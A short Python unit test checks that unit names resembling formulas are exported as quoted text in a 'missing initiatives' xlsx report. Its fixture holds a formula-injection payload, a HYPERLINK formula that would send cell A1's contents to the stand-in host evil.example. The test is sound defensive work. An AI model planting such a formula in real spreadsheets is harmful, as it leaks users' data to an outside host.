"""Unit names that a spreadsheet would read as formulas stay text in the list of units missing
a recognised initiative."""

from __future__ import annotations

from tests.workbooks import opened

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


def test_unit_names_like_formulas_stay_text_in_missing_xlsx(leader_client, make_unit):
    make_unit(name=HOSTILE, code="-1+2")
    book = opened(leader_client.get("/initiatives/missing.xlsx?year=2026"))
    cells = [c for row in book.active.iter_rows() for c in row if c.value in (HOSTILE, "-1+2")]
    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)
